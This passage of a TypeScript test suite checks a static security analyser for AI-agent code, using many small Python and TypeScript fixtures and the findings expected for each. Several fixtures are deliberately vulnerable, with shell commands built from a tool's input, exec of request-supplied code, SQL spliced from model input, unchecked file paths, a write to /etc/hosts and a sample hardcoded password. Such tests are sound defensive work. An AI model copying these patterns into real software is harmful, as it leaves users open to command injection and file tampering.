    expect(found.filter((f) => f.startsWith('evoagentx/tools/cmd_toolkit.py 23 subprocess-shell'))).toEqual([]);
    // (a class of the program's own: a whole line its caller passes, not the model's)
    expect(found).toContain('app/tools.py 15 subprocess-shell high');
  });

  it('a file named by the built-in `hash` of a request value is named by a number (Python)', async () => {
    // EvoAgentX's image edit tool removes its converted copy, `temp_rgba_{hash(image_path) % 10000}.png`
    const src = (name: string) => `import os

from fastapi import APIRouter

router = APIRouter()


@router.delete("/images")
async def drop(image_path: str):
    os.remove(os.path.join("/srv/cache", ${name}))
`;
    expect(await check('app/routes.py', src('f"temp_rgba_{hash(image_path) % 10000}.png"'))).toEqual([]);
    expect(await check('app/routes.py', src('f"temp_rgba_{image_path}.png"'))).toEqual(['10 file-untrusted-path high']);
  });

  it("a record an ORM finds by the request's id (`prisma.provider.findUnique({ where: { providerId } })`) holds what was stored: its base URL is not the request's; a URL the request sends is (TypeScript)", async () => {
    // Refly's provider service lists a provider's models from `${provider.baseUrl}/models`
    const src = `import { Body, Controller, Get, Post, Query } from '@nestjs/common';
import { PrismaClient } from '@prisma/client';

const prisma = new PrismaClient();

@Controller('providers')
export class ProviderController {
  @Get('models')
  async models(@Query('providerId') providerId: string) {
    const provider = await prisma.provider.findUnique({ where: { providerId } });
    const res = await fetch(\`\${provider.baseUrl}/models\`);
    return res.json();
  }

  @Post('probe')
  async probe(@Body() body: { baseUrl: string }) {
    const res = await fetch(\`\${body.baseUrl}/models\`);
    return res.json();
  }
}
`;
    expect((await check('src/provider/provider.controller.ts', src)).filter((f) => f.includes('egress-untrusted-url'))).toEqual(['17 egress-untrusted-url high']);
  });

  it('a function handed to a thread or an executor with its arguments (`asyncio.to_thread(save, name, content)`, `run_in_executor`, `run_in_threadpool`, `executor.submit`) is called with them (Python)', async () => {
    // Hayhooks' deploy route saves the files a request sends through `asyncio.to_thread(func, **kwargs)`
    const src = `import asyncio
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from fastapi import FastAPI
from starlette.concurrency import run_in_threadpool

app = FastAPI()


def save(name: str, content: str) -> None:
    (Path("/srv/pipelines") / f"{name}.yml").write_text(content)


def log(name: str, content: str) -> None:
    print(name, content)


@app.post("/a")
async def a(name: str, content: str):
    await asyncio.to_thread(save, name, content)


@app.post("/b")
async def b(name: str, content: str):
    await asyncio.get_running_loop().run_in_executor(None, save, name, content)


@app.post("/c")
async def c(name: str, content: str):
    await run_in_threadpool(save, name=name, content=content)


@app.post("/d")
async def d(name: str, content: str):
    with ThreadPoolExecutor() as pool:
        pool.submit(save, name, content)


@app.post("/e")
async def e(name: str, content: str):
    await asyncio.to_thread(log, name, content)
    await asyncio.to_thread(save, "fixed", content)
`;
    const found = await check('app/deploy.py', src);
    expect(found).toEqual(['12 file-untrusted-path high']);
    const { analyzeFile } = await import('../../src/analysis/analyze.js');
    const config = defaultConfig('/p');
    const r = await analyzeFile({ rel: 'app/deploy.py', text: src, language: 'python' }, activeRules(rules, config), config);
    // reached from the four routes that hand it the request's name, not from the fifth
    const traces = r.findings[0]!.trace!.map((t) => t.line);
    expect(traces).toContain(21);
    expect(traces).not.toContain(42);
    // a library function handed over is that call, named as the code names it
    const shell = await analyzeFile(
      { rel: 'app/pack.py', text: 'import asyncio\nimport subprocess\n\nfrom fastapi import FastAPI\n\napp = FastAPI()\n\n\n@app.post("/pack")\nasync def pack(name: str):\n    await asyncio.to_thread(subprocess.run, f"tar czf {name}.tgz data", shell=True)\n', language: 'python' },
      activeRules(rules, config),
      config,
    );
    expect(shell.findings.map((f) => `${f.line} ${f.ruleId} ${f.severity} ${f.message.slice(0, 16)}`)).toEqual(['11 subprocess-shell high `subprocess.run`']);
  });

  it('a function of the file that calls one of its parameters with its own `*args`/`**kwargs`, or hands it to a thread so (`_offload(func, **kwargs)`), calls the function its caller passes with the caller\'s arguments (Python)', async () => {
    // Hayhooks' `_offload(func, **kwargs)` runs `asyncio.to_thread(func, **kwargs)` for the deploy routes
    const src = (route: string) => `import asyncio
from pathlib import Path

from fastapi import FastAPI

app = FastAPI()


def save(name: str, content: str) -> None:
    (Path("/srv/pipelines") / f"{name}.yml").write_text(content)


async def offload(func, **kwargs):
    return await asyncio.to_thread(func, **kwargs)


def retry(fn, *args, **kwargs):
    for _ in range(3):
        try:
            return fn(*args, **kwargs)
        except OSError:
            pass


def logged(fn, name):
    print(name)
    return fn


@app.post("/deploy")
async def deploy(name: str, content: str):
${route}
`;
    expect(await check('app/deploy.py', src('    await offload(save, name=name, content=content)'))).toEqual(['10 file-untrusted-path high']);
    expect(await check('app/deploy.py', src('    retry(save, name, content)'))).toEqual(['10 file-untrusted-path high']);
    // (a parameter returned, not called with the function's own starred parameters: no call of it here)
    const untrusted = async (route: string) => (await check('app/deploy.py', src(route))).filter((f) => f.includes('file-untrusted-path'));
    expect(await untrusted('    logged(save, name)')).toEqual([]);
    expect(await untrusted('    await offload(save, name="fixed", content=content)')).toEqual([]);
  });

  it('destructive SQL in a module named for migrating a schema (`src/lib/db/migrate.ts` running its numbered steps) is its job, low; the same steps in another module or at its top level keep their grade (TypeScript)', async () => {
    // Perplexica's `src/lib/db/migrate.ts`: copies the rows into a new table, drops the old one and renames the new one
    const src = (step: string) => `import Database from 'better-sqlite3';

const db = new Database('data/db.sqlite');
const migrations = ['0001', '0002'];

migrations.forEach((migrationName) => {
  db.transaction(() => {
    if (migrationName === '0001') {
      db.exec('CREATE TABLE IF NOT EXISTS messages_with_sources (id INTEGER PRIMARY KEY, content TEXT)');
      db.exec('INSERT INTO messages_with_sources SELECT id, content FROM messages');
      ${step}
      db.exec('ALTER TABLE messages_with_sources RENAME TO messages;');
    }
  })();
});
`;
    expect(await check('src/lib/db/migrate.ts', src("db.exec('DROP TABLE messages;');"))).toEqual(['11 sql-destructive low']);
    expect(await check('src/lib/db/migrations.ts', src("db.exec('DROP TABLE messages;');"))).toEqual(['11 sql-destructive low']);
    expect(await check('src/lib/db/store.ts', src("db.exec('DROP TABLE messages;');"))).toEqual(['11 sql-destructive high']);
    expect(await check('src/lib/db/migrate.ts', "import Database from 'better-sqlite3';\nconst db = new Database('data/db.sqlite');\ndb.exec('DROP TABLE messages;');\n")).toEqual(['3 sql-destructive high']);
  });
  it('`DROP TRIGGER IF EXISTS t ON {table}; CREATE TRIGGER t ...` in one text of one of the program\'s functions is an idempotent install, low; without the creation, creating another object, without `IF EXISTS` or at a module\'s top level it keeps its grade (Python)', async () => {
    // R2R's file provider: the table's update trigger dropped and created again in its schema set-up
    const src = (sql: string, inFunction = true) => `import asyncpg


class PostgresFileHandler:
    def __init__(self, project_name):
        self.project_name = project_name

    async def create_tables(self):
        conn = await asyncpg.connect("postgresql://localhost/r2r")
        await conn.execute(f"${sql}")
${inFunction ? '' : `\nconn = asyncpg.connect("postgresql://localhost/r2r")\nconn.execute("${sql.replace(/\{self\.project_name\}/g, 'r2r')}")\n`}`;
    const destructive = (found: string[]) => found.filter((f) => f.includes('sql-destructive'));
    const recreate = 'DROP TRIGGER IF EXISTS update_files_updated_at ON {self.project_name}.files; CREATE TRIGGER update_files_updated_at BEFORE UPDATE ON {self.project_name}.files FOR EACH ROW EXECUTE FUNCTION touch();';
    expect(destructive(await check('core/providers/file.py', src(recreate)))).toEqual(['10 sql-destructive low']);
    expect(destructive(await check('core/providers/file.py', src('DROP TABLE IF EXISTS {self.project_name}.scratch; CREATE TABLE {self.project_name}.scratch (id INT);')))).toEqual(['10 sql-destructive low']);
    // (a constant text too: Archon's notify trigger)
    expect(destructive(await check('core/providers/file.py', src('DROP TRIGGER IF EXISTS update_files_updated_at ON files; CREATE TRIGGER update_files_updated_at BEFORE UPDATE ON files FOR EACH ROW EXECUTE FUNCTION touch();')))).toEqual(['10 sql-destructive low']);
    expect(destructive(await check('core/providers/file.py', src('DROP TRIGGER IF EXISTS update_files_updated_at ON {self.project_name}.files;')))).toEqual(['10 sql-destructive high']);
    expect(destructive(await check('core/providers/file.py', src('DROP TRIGGER IF EXISTS update_files_updated_at ON {self.project_name}.files; CREATE TRIGGER other_trigger BEFORE UPDATE ON {self.project_name}.files FOR EACH ROW EXECUTE FUNCTION touch();')))).toEqual(['10 sql-destructive high']);
    expect(destructive(await check('core/providers/file.py', src('DROP TRIGGER update_files_updated_at ON {self.project_name}.files; CREATE TRIGGER update_files_updated_at BEFORE UPDATE ON {self.project_name}.files FOR EACH ROW EXECUTE FUNCTION touch();')))).toEqual(['10 sql-destructive high']);
    expect(destructive(await check('core/providers/file.py', src(recreate, false)))).toEqual(['10 sql-destructive low', '13 sql-destructive high']);
  });
});

describe('agent code not used for tuning, eighty-ninth round: references, compile checks, paths checked by a helper', () => {
  it("the methods called on what a function annotated `-> Paths` returns are the class's; the fields of what it returns are not the class's defaults (Python)", async () => {
    // deer-flow's paths service reached through its singleton accessor, in one module; fast-agent's pending shell command
    const src = `import subprocess
from pathlib import Path
from fastapi import APIRouter
router = APIRouter()

class Paths:
    def resolve(self, name: str) -> Path:
        base = Path("/data").resolve()
        actual = (base / name).resolve()
        actual.relative_to(base)
        return actual

class Pending:
    command = None

_paths = None
_state = {}

def get_paths() -> Paths:
    global _paths
    if _paths is None:
        _paths = Paths()
    return _paths

def pending() -> Pending:
    return _state.get("pending")

@router.get("/files/{name:path}")
def read(name: str):
    return open(get_paths().resolve(name)).read()

def run_pending():
    subprocess.run(pending().command, shell=True)
`;
    expect(await check('app/routes.py', src)).toEqual(['33 subprocess-shell high']);
  });

  it('a path checked by `roots.findIndex(...)` is checked where the index is compared with -1, not where it is taken as a truth value (TypeScript)', async () => {
    // the shape of TypeAgent's workspace MCP server (`resolveExistingPath`)
    const src = `import path from "node:path";
import fs from "node:fs/promises";
import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
import { z } from "zod";

const ROOTS = ["/srv/a", "/srv/b"];

function isWithinRoot(candidate: string, root: string): boolean {
    const relative = path.relative(root, candidate);
    return relative === "" || (!relative.startsWith(\`..\${path.sep}\`) && relative !== ".." && !path.isAbsolute(relative));
}

async function found(inputPath: string): Promise<{ absolutePath: string }> {
    const realPath = await fs.realpath(path.resolve(ROOTS[0], inputPath));
    const rootIndex = ROOTS.findIndex((root) => isWithinRoot(realPath, root));
    if (rootIndex !== -1) return { absolutePath: realPath };
    throw new Error("outside");
}

async function refused(inputPath: string): Promise<string> {
    const realPath = await fs.realpath(path.resolve(ROOTS[0], inputPath));
    if (-1 === ROOTS.findIndex((root) => isWithinRoot(realPath, root))) throw new Error("outside");
    return realPath;
}

async function truthy(inputPath: string): Promise<string> {
    const realPath = await fs.realpath(path.resolve(ROOTS[0], inputPath));
    const rootIndex = ROOTS.findIndex((root) => isWithinRoot(realPath, root));
    if (rootIndex) return realPath;
    throw new Error("outside");
}

const server = new McpServer({ name: "files", version: "1.0.0" });
server.tool("a", { p: z.string() }, async (args) => ({ content: [{ type: "text", text: await fs.readFile((await found(args.p)).absolutePath, "utf8") }] }));
server.tool("b", { p: z.string() }, async (args) => ({ content: [{ type: "text", text: await fs.readFile(await refused(args.p), "utf8") }] }));
server.tool("c", { p: z.string() }, async (args) => ({ content: [{ type: "text", text: await fs.readFile(await truthy(args.p), "utf8") }] }));
`;
    expect(await check('src/mcp/workspaceServer.ts', src)).toEqual(['36 file-untrusted-path critical']);
  });

  it("an item of one of two constant tables (`darwin ? MAC_PLAYERS : LINUX_PLAYERS`, records of different counts) is the program's own (TypeScript)", async () => {
    // the shape of TypeAgent's local media player probe
    const src = `import { execSync } from "child_process";

interface Def { name: string; command: string; buildArgs: (f: string) => string[] }

const MAC: Def[] = [
    { name: "afplay", command: "afplay", buildArgs: (f) => [f] },
];
const LINUX: Def[] = [
    { name: "mpv", command: "mpv", buildArgs: (f) => ["--no-video", f] },
    { name: "paplay", command: "paplay", buildArgs: (f) => [f] },
];

function isCommandAvailable(command: string): boolean {
    try {
        const checkCmd = process.platform === "win32" ? \`where \${command}\` : \`which \${command}\`;
        execSync(checkCmd, { stdio: "ignore" });
        return true;
    } catch {
        return false;
    }
}

export function find() {
    const candidates = process.platform === "darwin" ? MAC : LINUX;
    for (const player of candidates) {
        if (isCommandAvailable(player.command)) return player;
    }
    return null;
}
`;
    const config = defaultConfig('/p');
    const found = (await analyzeFile({ rel: 'src/localPlayerService.ts', text: src, language: 'typescript' }, activeRules(rules, config), config)).findings;
    expect(found.map((f) => `${f.line} ${f.ruleId} ${f.severity}`)).toEqual(['16 subprocess-shell low']);
    expect(found[0]!.message).toContain("the program's own constants");
  });

  it('`new Function(src)` as a statement of its own only compiles the text (a syntax check); a function kept or called runs it (TypeScript)', async () => {
    // the shape of TypeAgent's web flow script validator
    const src = `export function validateScriptStructure(script: string): boolean {
  try {
    new Function(\`"use strict"; return (\${script})\`);
    return true;
  } catch {
    return false;
  }
}

export function runScript(script: string, browser: unknown) {
  const fn = new Function("browser", \`"use strict"; return (\${script})(browser);\`);
  return fn(browser);
}

export function runNow(script: string) {
  return new Function(script)();
}
`;
    expect(await check('src/agent/webFlows/runner.ts', src)).toEqual(['11 code-eval high', '16 code-eval high']);
  });

  it("a helper rebuilding a message checked to be a system message (a cache point added or removed) moves nothing into the system prompt; one promoting another message does (TypeScript)", async () => {
    // the shape of Refly's context-caching helpers
    const src = `import express from "express";
import { SystemMessage, HumanMessage, type BaseMessage } from "@langchain/core/messages";

const stripCachePoint = (message: BaseMessage): BaseMessage => {
  const cleanContent = removeCachePoint(message.content);
  const messageType = message._getType();
  if (messageType === "system") {
    return new SystemMessage({ content: cleanContent });
  }
  if (messageType === "human") {
    return new HumanMessage({ content: cleanContent });
  }
  return message;
};

const tryAddCachePoint = (message: BaseMessage): BaseMessage | null => {
  if (message._getType() === "system") {
    const text = typeof message.content === "string" ? message.content : JSON.stringify(message.content);
    return new SystemMessage({ content: [{ type: "text", text }, { cachePoint: { type: "default" } }] });
  }
  return null;
};

const promote = (message: BaseMessage): BaseMessage => {
  if (message._getType() !== "system") {
    return new SystemMessage({ content: message.content });
  }
  return message;
};

function removeCachePoint(content: unknown): unknown {
  return Array.isArray(content) ? content.filter((item) => !(item && typeof item === "object" && "cachePoint" in item)) : content;
}

const app = express();
app.post("/chat", (req, res) => {
  const message = req.body.message as BaseMessage;
  res.json([stripCachePoint(message), tryAddCachePoint(message), promote(message)]);
});
`;
    expect(await check('src/scheduler/utils/message.ts', src)).toEqual(['26 prompt-injection high']);
  });
});

describe('agent code not used for tuning, ninetieth round: a name under a directory held open', () => {
  it('`/proc/self/fd/${dir.fd}/${name}` names a file under a directory the program holds open, not a place outside the project; a fixed system path written still is (TypeScript)', async () => {
    // the shape of Agenta's workspace reader (`openat` done by hand, one component at a time)
    const src = `import { promises as fs, type FileHandle } from "node:fs";

export async function openAt(parent: FileHandle, name: string, flags: number): Promise<FileHandle> {
  if (name.includes("/")) throw new Error("one component");
  return fs.open(\`/proc/self/fd/\${parent.fd}/\${name}\`, flags);
}

export async function writeHosts(line: string) {
  await fs.writeFile("/etc/hosts", line);
}
`;
    expect(await check('src/tools/workspace-reader.ts', src)).toEqual(['9 file-outside-sandbox high']);
  });

  it('code RestrictedPython compiled runs in its sandbox: low; the same code with `compile` and `exec` keeps its grade (Python)', async () => {
    // the shape of Agenta's default evaluator runner
    const src = `from fastapi import FastAPI
from RestrictedPython import compile_restricted, safe_globals

app = FastAPI()

@app.post("/evaluate")
def evaluate(code: str):
    byte_code = compile_restricted(code, filename="<inline>", mode="exec")
    env = dict(safe_globals)
    exec(byte_code, env)
    return env["result"]

@app.post("/evaluate-plain")
def evaluate_plain(code: str):
    env = {}
    exec(compile(code, "<inline>", "exec"), env)
    return env["result"]
`;
    expect(await check('sdk/runners/restricted.py', src)).toEqual(['10 code-eval low', '16 code-eval high']);
  });
});


describe('agent code not used for tuning, ninety-first round: values a nested function captures, routes are no tools', () => {
  it("inline AppleScript whose every dynamic part had its `\\` doubled and then its `\"` escaped, inside a double-quoted string, stays one string: low; escaped in the other order, or outside a string, it keeps its grade (TypeScript, Python)", async () => {
    // the shape of DesktopCommander's default-editor lookup and Midscene's keystrokes
    const ts = `import { execFileSync } from "node:child_process";

export function typeText(text: string): void {
  const escaped = text.replace(/\\\\/g, "\\\\\\\\").replace(/"/g, '\\\\"');
  execFileSync("osascript", ["-e", \`tell application "System Events" to keystroke "\${escaped}"\`]);
}

export function typeTextWrongOrder(text: string): void {
  const escaped = text.replace(/"/g, '\\\\"').replace(/\\\\/g, "\\\\\\\\");
  execFileSync("osascript", ["-e", \`tell application "System Events" to keystroke "\${escaped}"\`]);
}

export function runEscapedOutsideString(text: string): void {
  const escaped = text.replace(/\\\\/g, "\\\\\\\\").replace(/"/g, '\\\\"');
  execFileSync("osascript", ["-e", \`tell application "Finder" to \${escaped}\`]);
}
`;
    expect(await check('src/device.ts', ts)).toEqual(['5 subprocess-shell low', '10 subprocess-shell medium', '15 subprocess-shell medium']);
    const py = `import subprocess


def notify(message):
    escaped = message.replace("\\\\", "\\\\\\\\").replace('"', '\\\\"')
    subprocess.run(["osascript", "-e", f'display notification "{escaped}" with title "Agent"'])
`;
    expect(await check('agent/notify.py', py)).toEqual(['6 subprocess-shell low']);
  });

  it('a parameter defaulting to a function of the file (`execFile = defaultExecFileSync`) calls that function: a constant program passed through it is constant; a tool input passed through it is still found (TypeScript)', async () => {
    // the shape of MemOS's Hermes bridge: a test seam around `execFileSync`
    const src = `import * as childProcess from "node:child_process";
import { tool } from "ai";
import { z } from "zod";

type ExecLike = (file: string, args: readonly string[]) => string;

const defaultExecFileSync: ExecLike = (file, args) => childProcess.execFileSync(file, [...args], { encoding: "utf8" }) as string;

export function isChatRunning(execFile: ExecLike = defaultExecFileSync): boolean {
  return execFile("pgrep", ["-f", "hermes chat"]).trim().length > 0;
}

export const runProgram = tool({
  description: "Run a program",
  inputSchema: z.object({ program: z.string() }),
  execute: async ({ program }, run: ExecLike = defaultExecFileSync) => run(program, []),
});
`;
    expect(await check('bridge/hermes-process.ts', src)).toEqual(['7 subprocess-dynamic-command critical']);
  });

  it('`DROP TRIGGER IF EXISTS` or `DROP INDEX IF EXISTS` of a trigger or index the module creates is its own schema upkeep: low; one it never creates keeps the rule grade (TypeScript)', async () => {
    // the shape of MemOS's local store: `deleteAll()` drops the full-text triggers its set-up creates
    const src = `import Database from "better-sqlite3";

export class Store {
  private db = new Database("memos.db");

  init(): void {
    this.db.exec(\`
      CREATE TRIGGER IF NOT EXISTS tasks_fts_ai AFTER INSERT ON tasks BEGIN
        INSERT INTO tasks_fts(rowid, summary) VALUES (new.rowid, new.summary);
      END;
    \`);
    this.db.exec("CREATE UNIQUE INDEX IF NOT EXISTS idx_tasks_key ON tasks (key)");
  }

  resetAll(): void {
    this.db.exec("DROP TRIGGER IF EXISTS tasks_fts_ai");
    this.db.exec("DROP INDEX IF EXISTS idx_tasks_key");
    this.db.exec("DROP TRIGGER IF EXISTS audit_log_ai");
  }
}
`;
    expect((await check('src/storage/sqlite.ts', src)).filter((f) => f.includes('sql-destructive'))).toEqual([
      '16 sql-destructive low',
      '17 sql-destructive low',
      '18 sql-destructive high',
    ]);
  });

  it('a nested function whose parameter defaults to a variable of the enclosing one (`def fetch(ph=placeholders)`) sees that value: bind markers stay bind markers, a tool parameter stays a tool parameter (Python)', async () => {
    // the shape of MCP Memory Service's batch fetches, handed to an executor that calls them with no arguments
    const src = `import sqlite3
import subprocess
from langchain_core.tools import tool

conn = sqlite3.connect("memory.db")


def fetch(hashes, include_superseded):
    rows = []
    for start in range(0, len(hashes), 999):
        batch = hashes[start:start + 999]
        placeholders = ",".join("?" for _ in batch)
        superseded = "" if include_superseded else " AND superseded_by IS NULL"

        def fetch_batch(ph=placeholders, b=batch, sf=superseded):
            return conn.execute(f"SELECT content FROM memories WHERE content_hash IN ({ph}){sf}", b).fetchall()

        rows += run_later(fetch_batch)
    return rows


def lookup(table, key):
    def fetch_one(t=table):
        return conn.execute(f"SELECT * FROM {t} WHERE key = ?", (key,)).fetchone()

    return run_later(fetch_one)


@tool
def run(command: str) -> str:
    """Run a shell command."""
    def go(c=command):
        return subprocess.run(c, shell=True, capture_output=True, text=True).stdout

    return run_later(go)
`;
    expect(await check('memory_service/storage.py', src)).toEqual(['24 sql-injection low', '33 subprocess-shell critical']);
  });
});

describe('agent code not used for tuning, ninety-third round: a login shell found one of several ways', () => {
  it("an entry a dynamic key picks from a table of lists of constant records (`toolMap[type]`) is one of those records: a version check of the program it names is constant; a program from elsewhere is not (TypeScript, Python)", async () => {
    // the shape of Task Master's preflight checker
    const ts = `import { execSync } from "node:child_process";

const toolMap: Record<string, { command: string; args: string[] }[]> = {
  node: [{ command: "node", args: ["--version"] }, { command: "npm", args: ["--version"] }],
  rust: [{ command: "cargo", args: ["--version"] }],
};

function checkTool(command: string, versionArgs: string[]) {
  return execSync(\`\${command} \${versionArgs.join(" ")}\`, { encoding: "utf-8" });
}

export function validateTools(types: string[], extra: string) {
  for (const type of types) {
    for (const tool of toolMap[type] || []) checkTool(tool.command, tool.args);
  }
  execSync(\`\${extra} --version\`);
}
`;
    expect(await check('src/services/preflight-checker.ts', ts)).toEqual(['9 subprocess-shell low', '16 subprocess-shell medium']);
    const py = `import subprocess

TOOLS = {
    "python": [{"command": "python3", "args": ["--version"]}, {"command": "pip", "args": ["--version"]}],
    "go": [{"command": "go", "args": ["version"]}],
}


def check_tools(kind):
    for tool in TOOLS[kind]:
        subprocess.run(f"{tool['command']} {' '.join(tool['args'])}", shell=True)
`;
    expect(await check('preflight.py', py)).toEqual(['11 subprocess-shell low']);
  });

  it("the message `find` picks with a callback testing it is a system message (`(m) => m.role === \"system\"`) brings nothing new into a system prompt; a message picked otherwise still does (TypeScript)", async () => {
    // the shape of Continue's AI SDK adapter, whose converted messages carry earlier tool calls' arguments
    const src = `import { generateText } from "ai";
import { openai } from "@ai-sdk/openai";

function toVercel(messages: any[]) {
  const out: any[] = [];
  for (const msg of messages) {
    const parts: any[] = [];
    for (const tc of msg.tool_calls ?? []) {
      parts.push({ type: "tool-call", input: JSON.parse(tc.function.arguments) });
    }
    out.push({ role: msg.role, content: parts.length ? parts : msg.content });
  }
  return out;
}

export async function complete(body: { messages: any[] }) {
  const converted = toVercel(body.messages);
  const systemMsg = converted.find((msg) => msg.role === "system");
  const systemText = systemMsg && typeof systemMsg.content === "string" ? systemMsg.content : undefined;
  await generateText({ model: openai("gpt-4o"), system: systemText, messages: converted.filter((m) => m.role !== "system") });
  const lastMsg = converted.find((msg) => msg.role === "assistant");
  await generateText({ model: openai("gpt-4o"), system: lastMsg.content, prompt: "go on" });
}
`;
    const found = await check('src/apis/AiSdk.ts', src);
    expect(found.filter((f) => f.includes('prompt-injection'))).toEqual(['22 prompt-injection medium']);
  });

  it("a value the file also names a mint, an address or an id is public, no credential; a token the file names nothing else stays one (Python)", async () => {
    // the shape of AGiXT's payment currencies: a Solana token's mint address, repeated for the price lookup
    const src = `SUPPORTED_CURRENCIES = {
    "AGIXT": {
        "network": "solana",
        "mint": "F9TgEJLLRUKDRF16HgjUCdJfJ5BK6ucyiW8uJxVPpump",
        "dexscreener_token": "F9TgEJLLRUKDRF16HgjUCdJfJ5BK6ucyiW8uJxVPpump",
    },
    "ZEC": {
        "network": "solana",
        "dexscreener_token": "A7bdiYdS5GjqGFtxf17ppRHtDKPkkRqbKtR27dxvQXaS",
    },
}
`;
    expect(await check('agixt/payments/pricing.py', src)).toEqual(['9 hardcoded-secret high']);
    // a name that says it holds a secret is no identifier, whatever other word it has (`HASH_…_PASSWORD`)
    const passwords = `ADMIN_PASSWORD = "Tr0ub4dor&3-horse"\nHASH_ADMIN_PASSWORD = "Tr0ub4dor&3-horse"\n`;
    expect(await check('app/settings.py', passwords)).toEqual(['1 hardcoded-secret high', '2 hardcoded-secret high']);
  });

  it("a value spliced into `python -c` code as its literal (`{url!r}`) is data, whoever chose it: low; the same value between quotes of its own keeps its grade (Python)", async () => {
    // the shape of Serena's dashboard opening its URL in a child interpreter
    const src = `import subprocess
import sys
from langchain_core.tools import tool


def open_url_in_browser(url: str) -> None:
    subprocess.Popen([sys.executable, "-c", f"import webbrowser; webbrowser.open({url!r})"])


@tool
def open_page(url: str) -> str:
    \"\"\"Open a page in the browser.\"\"\"
    subprocess.Popen([sys.executable, "-c", f"import webbrowser; webbrowser.open({url!r})"])
    subprocess.Popen([sys.executable, "-c", f"import webbrowser; webbrowser.open('{url}')"])
    return "opened"
`;
    expect(await check('src/dashboard.py', src)).toEqual(['7 subprocess-shell low', '13 subprocess-shell low', '14 subprocess-shell critical']);
  });

  it("a helper returning the environment's `SHELL`, the account's login shell (or a shell found on PATH) or a constant returns one of those, each the operator's: a shell it starts is graded low; one a tool names keeps its grade (TypeScript, Python)", async () => {
    // the shape of Magnitude's desktop app inheriting the login shell's environment (the VS Code pattern)
    const ts = `import { spawnSync } from "node:child_process";
import * as os from "node:os";

function getUserShell(): string | null {
  if (process.env.SHELL) return process.env.SHELL;
  try {
    const info = os.userInfo();
    if (info.shell) return info.shell;
  } catch {}
  if (process.platform === "darwin") return "/bin/zsh";
  return null;
}

function probeShellEnv(shell: string, flags: string[]) {
  return spawnSync(shell, [...flags, "env -0"], { encoding: "utf8" });
}

export function inheritLoginShellEnv(): void {
  const shell = getUserShell();
  if (!shell) return;
  probeShellEnv(shell, ["-ilc"]) ?? probeShellEnv(shell, ["-lc"]);
}
`;
    expect(await check('desktop/src/shell-env.ts', ts)).toEqual(['15 subprocess-dynamic-command low']);
    const py = `import os
import shutil
import subprocess
from langchain_core.tools import tool


def user_shell():
    shell = os.environ.get("SHELL")
    if shell:
        return shell
    found = shutil.which("zsh")
    if found:
        return found
    return "/bin/sh"


def login_env():
    return subprocess.run([user_shell(), "-lc", "env"], capture_output=True, text=True).stdout


@tool
def run_with(shell: str) -> str:
    """Run env with the given shell."""
    chosen = shell if shell else user_shell()
    return subprocess.run([chosen, "-lc", "env"], capture_output=True, text=True).stdout
`;
    expect(await check('agent/shell_env.py', py)).toEqual(['18 subprocess-dynamic-command low', '25 subprocess-dynamic-command critical']);
  });
});

describe('agent code not used for tuning, ninety-fourth round: names filtered to a class of characters, argv lists made on one platform', () => {
  it("a file name kept to the characters a class test lets through (`c for c in name if c.isalnum() or c in \"._- \"`) has no separator: one folder's file; a class letting `/` through does not (Python)", async () => {
    // the shape of Kimi CLI's upload route
    const src = `import os
from pathlib import Path
from fastapi import FastAPI, UploadFile

app = FastAPI()
UPLOADS = Path("uploads")


def sanitize_filename(filename: str) -> str:
    safe = "".join(c for c in filename if c.isalnum() or c in "._- ")
    return safe.strip() or "unnamed"


@app.post("/upload")
async def upload(file: UploadFile):
    name, ext = os.path.splitext(sanitize_filename(file.filename))
    (UPLOADS / f"{name}_x{ext}").write_bytes(await file.read())
    raw = "".join(c for c in file.filename if c.isalnum() or c in "./")
    (UPLOADS / raw).write_bytes(b"")
`;
    expect(await check('web/api/sessions.py', src)).toEqual(['19 file-untrusted-path high']);
  });

  it('an argv list whose program is a constant, made on one platform and left `None` on others, starts that program (Python)', async () => {
    // the shape of AWorld's workspace clone
    const src = `import subprocess
import sys


def clone(seed, target):
    command = None
    if sys.platform == "darwin":
        command = ["cp", "-cR", f"{seed}/.", str(target)]
    elif sys.platform.startswith("linux"):
        command = ["cp", "--reflink=always", "-a", f"{seed}/.", str(target)]
    if command is not None:
        subprocess.run(command, check=False)


def run(tool_path, args):
    command = None
    if sys.platform == "darwin":
        command = [tool_path, *args]
    if command is not None:
        subprocess.run(command, check=False)
`;
    expect((await check('self_evolve/replay.py', src)).filter((f) => f.includes('subprocess'))).toEqual(['20 subprocess-dynamic-command low']);
  });
});

describe('agent code not used for tuning, ninety-fifth round: objects typed by annotation, old LangChain tool classes, embeddings, catalog reads', () => {
  it('a parameter or a pydantic field annotated with a class of the module calls that class\'s methods: a tool\'s SQL reaches the helper that runs it (Python)', async () => {
    // the shape of DataLine's SQL tool: the tool hands the model's query to a function taking the database object
    const src = `from langchain_core.tools import BaseTool
from sqlalchemy import create_engine, text


class Database:
    def __init__(self, uri):
        self._engine = create_engine(uri)

    def run_sql(self, query: str):
        with self._engine.begin() as connection:
            return connection.execute(text(query)).fetchall()


def execute_sql_query(db: Database, query: str):
    return db.run_sql(query)


class QueryTool(BaseTool):
    name: str = "query"
    description: str = "Run a SQL query"
    db: Database

    def _run(self, query: str):
        return execute_sql_query(self.db, query)


class CountTool(BaseTool):
    name: str = "count"
    description: str = "Count the rows of the users table"
    db: "Database"

    def _run(self, table: str):
        return self.db.run_sql("SELECT count(*) FROM users")
`;
    expect(await check('dataline/services/toolkit.py', src)).toEqual(['11 sql-injection critical']);
  });

  it('a field annotated with a class another module defines (`db: SQLDatabase = Field(exclude=True)`) calls its methods there (Python)', async () => {
    expect(
      await checkProject({
        'app/sql_database.py': `from sqlalchemy import create_engine, text


class SQLDatabase:
    def __init__(self, uri):
        self._engine = create_engine(uri)

    def run_sql(self, command: str):
        with self._engine.connect() as connection:
            return connection.execute(text(command)).fetchall()
`,
        'app/agent.py': `from langchain.tools.base import BaseTool
from pydantic import BaseModel, Field

from app.sql_database import SQLDatabase


class BaseSQLDatabaseTool(BaseModel):
    db: SQLDatabase = Field(exclude=True)


class QuerySQLDataBaseTool(BaseSQLDatabaseTool, BaseTool):
    name = "SqlDbQuery"
    description = "Execute a SQL query"

    def _run(self, query: str) -> str:
        return str(self.db.run_sql(query))


def report(db: SQLDatabase):
    return db.run_sql("SELECT 1")
`,
      }),
    ).toEqual(['app/sql_database.py 10 sql-injection critical']);
  });

  it('a subclass of `langchain.tools.base.BaseTool` (LangChain before 0.1) is a tool: its input spliced into a table name is the model\'s (Python)', async () => {
    // the shape of Dataherald's column checker
    const src = `from langchain.tools.base import BaseTool
